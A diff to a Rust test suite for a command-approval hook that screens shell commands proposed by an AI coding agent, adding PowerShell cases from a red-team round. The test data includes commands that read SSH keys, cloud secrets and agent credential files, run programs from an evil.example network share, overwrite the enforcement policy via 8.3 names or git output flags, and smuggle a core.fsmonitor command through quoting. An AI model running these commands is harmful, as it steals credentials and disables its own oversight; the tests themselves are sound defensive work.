@@ -437,12 +437,48 @@ fn claude_code_hook_answers_as_claude_code_reads_it() {
             "ask",
             "`curl` is in network_operations",
         ),
+        ("curl.exe https://x.io", "ask", "`curl`"),
+        ("iex Get-Date", "ask", "runs code"),
+        // The third red-team round (PowerShell): programs by path, `-Param:value`,
+        // `--opt=C:\…`, quotes inside words, network paths, 8.3 names, wildcards in
+        // paths, the env: drive, aliases of cmdlets that change the machine.
         (
             r"C:\Windows\System32\curl.exe https://x.io",
             "ask",
-            "`curl`",
+            "at that path",
         ),
-        ("iex Get-Date", "ask", "runs code"),
+        (r".\ls", "ask", "at that path"),
+        (r"\\evil.example\share\ls.exe", "ask", "network path"),
+        (r"gc -Path:C:\Users\dev\.ssh\id_rsa", "ask", "credentials"),
+        (
+            r"git log -1 --format=x --output=C:\ProgramData\fleetkit\policy.yaml",
+            "deny",
+            "enforcement",
+        ),
+        (
+            r#"git '--namespace=a b" -c "core.fsmonitor=calc' status"#,
+            "ask",
+            "double quote",
+        ),
+        ("gc env:AWS_SECRET_ACCESS_KEY", "ask", "environment"),
+        (r"gc C:\Users\dev\.ss?\id_rs?", "ask", "wildcard"),
+        (
+            r"Set-Content C:\PROGRA~3\fleetkit\policy.yaml x",
+            "ask",
+            "8.3",
+        ),
+        (r"sp HKCU:\Software\x -Name y -Value z", "ask", "verb `set`"),
+        (r"ls \\evil.example\share", "ask", "network path"),
+        (
+            r"gc C:\Users\dev\.claude\.credentials.json",
+            "ask",
+            "credentials",
+        ),
+        (
+            r"sls -Pattern x -Path C:\Users\dev\.aws\config2",
+            "ask",
+            "credentials",
+        ),
         ("Start-Process notepad", "ask", "runs code"),
         ("Install-Module evil", "ask", "installs software"),
         (
